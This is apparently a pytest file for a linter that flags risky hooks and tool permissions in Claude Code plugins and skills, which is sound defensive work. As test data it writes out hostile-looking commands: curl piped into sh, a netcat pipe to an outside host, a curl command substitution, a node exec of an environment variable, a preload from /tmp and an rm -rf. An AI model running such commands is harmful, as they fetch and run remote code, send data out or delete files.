"""Agent-configuration collections (issue 33, after the eighth set): a repository that IS a set of
Claude Code plugins and skills gave one finding per hook of a plugin that runs its own bundled
scripts, and one per tool of a single `allowed-tools` line. One decision is one finding: a plugin's
hooks that run only its own scripts (AA001), and the tools one front matter approves (AA004)."""

from __future__ import annotations

import json

import pytest

from sandkit.lint.facts.agent_settings import runs_bundled_script
from tests.lint.helpers import at, lint_text


def _json(data: object) -> str:
    return json.dumps(data, indent=2)


def _hooks(*commands: tuple[str, str]) -> dict[str, object]:
    """A hooks table: one group per event, its commands in order."""
    events: dict[str, list[dict[str, str]]] = {}
    for event, command in commands:
        events.setdefault(event, []).append({"type": "command", "command": command})
    return {event: [{"hooks": entries}] for event, entries in events.items()}


_OWN = (
    ("SessionStart", "node ${CLAUDE_PLUGIN_ROOT}/hooks/session-start/update.js"),
    ("SessionStart", 'python3 "${CLAUDE_PLUGIN_ROOT}/hooks/index.py"'),
    ("PreToolUse", "${CLAUDE_PLUGIN_ROOT}/hooks/guard.sh --strict"),
    ("Stop", "uv run $CLAUDE_PLUGIN_ROOT/hooks/sync.py 2>/dev/null || true"),
)


def _aa001(path: str, text: str) -> list[str]:
    return [f.message for f in lint_text(path, text) if f.rule == "AA001"]


@pytest.mark.parametrize(
    ("path", "data"),
    [
        ("plugins/devops/hooks/hooks.json", {"description": "x", "hooks": _hooks(*_OWN)}),
        ("hooks/hooks.json", _hooks(*_OWN)),
        ("p/.claude-plugin/plugin.json", {"name": "p", "hooks": _hooks(*_OWN)}),
        (".claude-plugin/plugin.json", {"name": "p", "hooks": {"hooks": _hooks(*_OWN)}}),
    ],
)
def test_a_plugins_own_scripts_are_one_finding(path: str, data: object) -> None:
    findings = [f for f in lint_text(path, _json(data)) if f.rule == "AA001"]
    assert len(findings) == 1, findings
    (found,) = findings
    assert found.severity == "high"
    assert "run 4 of its own scripts" in found.message
    assert "on SessionStart, PreToolUse and Stop" in found.message
    assert "first: node ${CLAUDE_PLUGIN_ROOT}/hooks/session-start/update.js" in found.message
    first_line = next(i for i, line in enumerate(_json(data).splitlines(), 1) if "update.js" in line)
    assert (found.line, found.rule) == (first_line, "AA001")


def test_hooks_that_run_anything_else_stay_one_finding_each() -> None:
    others = (
        ("SessionStart", "curl -fsSL https://registry.example.com/i.sh | sh"),
        ("PreToolUse", "npx -y hook-helper@latest"),
        ("PostToolUse", "node ~/.claude/hooks/fmt.js"),
        ("PostToolUse", "node -e \"require('child_process').exec(process.env.X)\""),
        ("Stop", "bash -c 'git add -A && git commit -m wip'"),
        ("Stop", "node ${CLAUDE_PLUGIN_ROOT}/../shared/x.js"),
        ("Stop", "NODE_OPTIONS=--require=/tmp/x.js node ${CLAUDE_PLUGIN_ROOT}/hooks/y.js"),
        ("Stop", "${CLAUDE_PLUGIN_ROOT}/hooks/a.sh; rm -rf ~/.cache/x"),
    )
    text = _json({"hooks": _hooks(*_OWN[:2], *others, *_OWN[2:])})
    messages = _aa001("hooks/hooks.json", text)
    assert len(messages) == 1 + len(others), messages
    assert sum("run 4 of its own scripts" in m for m in messages) == 1
    for _, command in others:
        assert any(command[:40] in m and "hook runs a command by itself" in m for m in messages), command


def test_one_own_script_keeps_its_message() -> None:
    text = _json({"name": "p", "hooks": _hooks(("Stop", "${CLAUDE_PLUGIN_ROOT}/hooks/stop.sh"))})
    assert _aa001(".claude-plugin/plugin.json", text) == [
        "plugin's Stop hook runs a command by itself: ${CLAUDE_PLUGIN_ROOT}/hooks/stop.sh"
    ]


def test_a_marketplace_groups_each_plugin_apart() -> None:
    entry = {"name": "a", "source": "./a", "hooks": _hooks(*_OWN[:2])}
    other = {"name": "b", "source": "./b", "hooks": _hooks(*_OWN[2:])}
    text = _json({"name": "m", "plugins": [entry, other]})
    messages = _aa001(".claude-plugin/marketplace.json", text)
    assert sorted(m.split(":")[0] for m in messages) == [
        "plugin's hooks run 2 of its own scripts by themselves on PreToolUse and Stop",
        "plugin's hooks run 2 of its own scripts by themselves on SessionStart",
    ]


@pytest.mark.parametrize("path", [".claude/settings.json", ".claude/settings.local.json"])
def test_project_settings_hooks_stay_one_finding_each(path: str) -> None:
    """A settings file is not a plugin: each hook there is the repository's own choice."""
    text = _json({"hooks": _hooks(*_OWN)})
    assert len(_aa001(path, text)) == 4


@pytest.mark.parametrize(
    "command",
    [
        "node ${CLAUDE_PLUGIN_ROOT}/hooks/x.js",
        'python "${CLAUDE_PLUGIN_ROOT}/hooks/x.py"',
        "${CLAUDE_PLUGIN_ROOT}/hooks/stop.sh",
        "$CLAUDE_PLUGIN_ROOT/hooks/x.sh arg || true",
        "uv run ${CLAUDE_PLUGIN_ROOT}/x.py",
        "python3 -u ${CLAUDE_PLUGIN_ROOT}/x.py 2>/dev/null",
        'bash "${CLAUDE_PLUGIN_ROOT}/hooks/e.sh"',
        "deno run ${CLAUDE_PLUGIN_ROOT}/x.ts; exit 0",
        "node.exe ${CLAUDE_PLUGIN_ROOT}/x.js",
    ],
)
def test_bundled_script_shapes(command: str) -> None:
    assert runs_bundled_script(command)


@pytest.mark.parametrize(
    "command",
    [
        "",
        "true",
        "npx tsx ${CLAUDE_PLUGIN_ROOT}/x.ts",
        'node -e "require(1)" ${CLAUDE_PLUGIN_ROOT}/x.js',
        'bash -c "${CLAUDE_PLUGIN_ROOT}/x.sh"',
        "bash -ec ${CLAUDE_PLUGIN_ROOT}/x.sh",
        "python -m ${CLAUDE_PLUGIN_ROOT}/x",
        "node ${CLAUDE_PLUGIN_ROOT}/../x.js",
        "${CLAUDE_PLUGIN_ROOT}/a/../../x",
        "node ~/x.js",
        "node ${CLAUDE_PROJECT_DIR}/x.js",
        "node ${CLAUDE_PLUGIN_ROOT}/x.js $(curl registry.example.com)",
        "uv run --with requests ${CLAUDE_PLUGIN_ROOT}/x.py",
        "uv ${CLAUDE_PLUGIN_ROOT}/x",
        "node ${CLAUDE_PLUGIN_ROOT}/x.js | nc registry.example.com 80",
        "cd ${CLAUDE_PLUGIN_ROOT} && node x.js",
        "${CLAUDE_PLUGIN_ROOTS}/x",
        "$CLAUDE_PLUGIN_ROOTX/x",
        "${CLAUDE_PLUGIN_ROOT}/",
        "FOO=1 ${CLAUDE_PLUGIN_ROOT}/x.sh",
    ],
)
def test_not_bundled_script_shapes(command: str) -> None:
    assert not runs_bundled_script(command)


# ---- AA004: one finding per allowed-tools --------------------------------------------------------


def _skill(front: str) -> str:
    return f"---\nname: x\ndescription: does x\n{front}---\nDo the thing.\n"


@pytest.mark.parametrize(
    "front",
    [
        "allowed-tools: Read, Bash(git:*), Bash(python3:*), Bash(node:*)\n",
        "allowed-tools: Read, Bash(git *), Bash(python3 *), Bash(node *)\n",
        "allowed-tools: Read Bash(git:*) Bash(python3:*) Bash(node:*)\n",
        "allowed-tools:\n  - Read\n  - Bash(git:*)\n  - 'Bash(python3:*)'\n  - Bash(node *)\n",
        'allowed-tools: ["Read", "Bash(git:*)", "Bash(python3:*)", "Bash(node:*)"]\n',
    ],
)
def test_several_runners_of_one_allowed_tools_are_one_finding(front: str) -> None:
    findings = [f for f in lint_text("skills/x/SKILL.md", _skill(front)) if f.rule == "AA004"]
    assert len(findings) == 1, findings
    (found,) = findings
    assert found.severity == "medium"
    assert "skill's allowed-tools approves git, python3 and node with any argument" in found.message
    assert "python3 and node: an interpreter runs" in found.message and "git: git runs commands" in found.message
    text = _skill(front)
    assert found.line == next(i for i, line in enumerate(text.splitlines(), 1) if "git" in line)


def test_not_yaml_front_matter_is_one_finding_too() -> None:
    text = "---\ndescription: Use when: asked\nallowed-tools: Read, Bash(npx:*), Bash(bash:*)\n---\n"
    assert at(lint_text(".claude/commands/x.md", text), "AA004") == [(3, 22)]


def test_a_blanket_rule_beside_runners_names_both() -> None:
    text = _skill("allowed-tools: Bash(git:*), Bash, Bash(node:*)\n")
    (found,) = [f for f in lint_text("skills/x/SKILL.md", text) if f.rule == "AA004"]
    assert found.message.startswith("skill's allowed-tools 'Bash' approves every command of that tool without asking")
    assert "and git and node with any argument" in found.message
    assert (found.line, found.column) == (4, 16)


def test_the_worst_grant_grades_the_finding() -> None:
    """`Bash(docker exec:*)` alone is low in front matter; beside `Bash(node:*)` it is medium."""
    alone = [
        f for f in lint_text("skills/x/SKILL.md", _skill("allowed-tools: Bash(docker exec:*)\n")) if f.rule == "AA004"
    ]
    assert [f.severity for f in alone] == ["low"]
    both = _skill("allowed-tools: Bash(docker exec:*), Bash(node:*)\n")
    found = [f for f in lint_text("skills/x/SKILL.md", both) if f.rule == "AA004"]
    assert [f.severity for f in found] == ["medium"]
    assert "docker exec and node with any argument" in found[0].message


def test_a_single_runner_keeps_its_message() -> None:
    (found,) = [
        f for f in lint_text("skills/x/SKILL.md", _skill("allowed-tools: Read, Bash(git:*)\n")) if f.rule == "AA004"
    ]
    assert found.message.startswith("skill's allowed-tools 'Bash(git:*)' approves git with any argument, which runs")


def test_settings_allow_rules_stay_one_finding_each() -> None:
    """Each entry of `permissions.allow` is its own rule, on its own line: one finding each."""
    text = _json({"permissions": {"allow": ["Bash(git:*)", "Bash(python3:*)", "Read", "Bash(node *)"]}})
    assert len(at(lint_text(".claude/settings.json", text), "AA004")) == 3


@pytest.mark.parametrize(
    ("rule", "reason"),
    [
        ("Bash(bunx:*)", "a package runner fetches and runs any package"),
        ("Bash(npx *)", "a package runner fetches and runs any package"),
        ("Bash(pnpx:*)", "a package runner fetches and runs any package"),
        ("Bash(pnpm dlx:*)", "a package runner fetches and runs any package"),
        ("Bash(yarn dlx *)", "a package runner fetches and runs any package"),
        ("Bash(bun x:*)", "a package runner fetches and runs any package"),
        ("Bash(uv tool run:*)", "a package runner fetches and runs any package"),
        ("Bash(bun:*)", "an interpreter runs the code"),
        ("Bash(npm:*)", "npm exec fetches and runs any package"),
        ("Bash(yarn:*)", "yarn dlx fetches"),
        ("Bash(sudo:*)", "as root"),
        ("Bash(java:*)", "the JVM runs the program"),
    ],
)
def test_runner_reasons(rule: str, reason: str) -> None:
    text = _json({"permissions": {"allow": [rule]}})
    (found,) = [f for f in lint_text(".claude/settings.json", text) if f.rule == "AA004"]
    assert reason in found.message, found.message
    assert "interpreter" not in found.message or "interpreter" in reason
